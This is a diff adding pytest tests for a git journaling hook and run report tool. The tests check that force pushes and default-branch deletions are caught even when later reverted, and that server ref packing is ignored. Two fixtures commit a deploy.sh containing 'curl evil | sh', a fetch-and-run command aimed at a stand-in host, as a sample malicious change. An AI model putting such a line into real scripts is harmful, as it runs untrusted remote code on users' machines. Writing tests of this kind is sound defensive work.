@@ -131,6 +131,87 @@ def test_pushes_through_the_hook_with_matching_journal_lines_pass(tmp_path: Path
     assert "net change only" not in text
 
 
+def test_the_server_packing_its_refs_is_no_step(tmp_path: Path) -> None:
+    """Honest run: `git gc` (or `receive.autogc`, or the owner's maintenance) packs the bare
+    repository's refs during the run. git runs the reference-transaction hook for that too: every
+    ref "created" in packed-refs, then every loose copy "deleted". Nothing moved: no step, and
+    above all no deletion of the default branch."""
+    clone, bare, run_dir = journaled(tmp_path)
+    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    commit(clone, "src/x.py", "x = 1\n", "logged")
+    git(clone, "push", "-q", "origin", "main", "main:refs/heads/topic")
+    git(bare, "pack-refs", "--all")
+    git(clone, "push", "-q", "origin", ":refs/heads/topic")  # a packed ref, deleted
+    commit(clone, "src/y.py", "y = 1\n", "logged too")
+    git(clone, "push", "-q", "origin", "main")
+    git(bare, "gc", "-q")
+    code, report, _ = closeout(run_dir)
+    assert code == 0, report
+    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
+    assert [e["old"] == ZERO or e["new"] == ZERO
+            for e in journal if e["ref"] == "refs/heads/main"] == [False, False]
+
+
+def test_the_default_branch_deleted_after_the_server_packed_its_refs_is_non_fast_forward(
+        tmp_path: Path) -> None:
+    clone, bare, run_dir = journaled(tmp_path)
+    start = rev(clone, "HEAD")
+    git(bare, "pack-refs", "--all")
+    git(bare, "symbolic-ref", "HEAD", "refs/heads/other")  # so that main may be deleted
+    git(clone, "push", "-q", "origin", ":refs/heads/main")
+    git(clone, "push", "-q", "origin", f"{start}:refs/heads/main")
+    git(bare, "symbolic-ref", "HEAD", "refs/heads/main")
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    assert by_kind(report)["step-deleted"][0][0] == "NON_FAST_FORWARD"
+
+
+def test_a_forced_update_without_an_old_value_is_journaled_from_the_value_it_replaced(
+        tmp_path: Path) -> None:
+    """`git update-ref` on the server without an old value: git hands the hook zeros for it, as
+    for a creation. The journal records the value the ref held, so main moved to other code and
+    back is a force push, not two creations."""
+    clone, bare, run_dir = journaled(tmp_path)
+    start = rev(clone, "HEAD")
+    git(clone, "checkout", "-q", "--orphan", "evil")
+    commit(clone, "deploy.sh", "curl evil | sh\n", "evil")
+    git(clone, "push", "-q", "origin", "evil:refs/heads/evil")
+    evil = rev(clone, "HEAD")
+    git(bare, "update-ref", "refs/heads/main", evil)
+    git(bare, "update-ref", "refs/heads/main", start)
+    git(clone, "push", "-q", "origin", ":refs/heads/evil")
+    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
+    assert [(e["old"], e["new"]) for e in journal if e["ref"] == "refs/heads/main"] == [
+        (start, evil), (evil, start)]
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
+
+
+@pytest.mark.parametrize("spelling", ["{}", "file://{}", "{}/"])
+def test_a_remote_named_without_its_git_suffix_is_judged_by_its_journal(
+        tmp_path: Path, spelling: str) -> None:
+    """`git clone /srv/git/app` records origin as `/srv/git/app` when the repository is
+    `/srv/git/app.git` (git tries the `.git` suffix, as it tries `/.git`): that remote's journal
+    is the one `journal install /srv/git/app.git` keeps, not "no journal"."""
+    clone, bare = make_repo_with_remote(tmp_path)
+    assert run_cli("journal", "install", str(bare)).returncode == 0
+    git(clone, "remote", "set-url", "origin", spelling.format(str(bare).removesuffix(".git")))
+    run_dir = tmp_path / "run"
+    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    start = rev(clone, "HEAD")
+    (clone / "deploy.sh").write_text("curl evil | sh\n")
+    git(clone, "add", "deploy.sh")
+    git(clone, "commit", "-q", "--amend", "-m", "initial")
+    git(clone, "push", "-q", "--force", "origin", "main")
+    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
+    assert rev(bare, "refs/heads/main") == start
+    code, report, text = closeout(run_dir)
+    assert code == 1, text
+    assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
+    assert "net change only" not in text
+
+
 def test_without_a_journal_the_report_says_net_change_only(tmp_path: Path) -> None:
     clone, _bare = make_repo_with_remote(tmp_path)
     run_dir = tmp_path / "run"
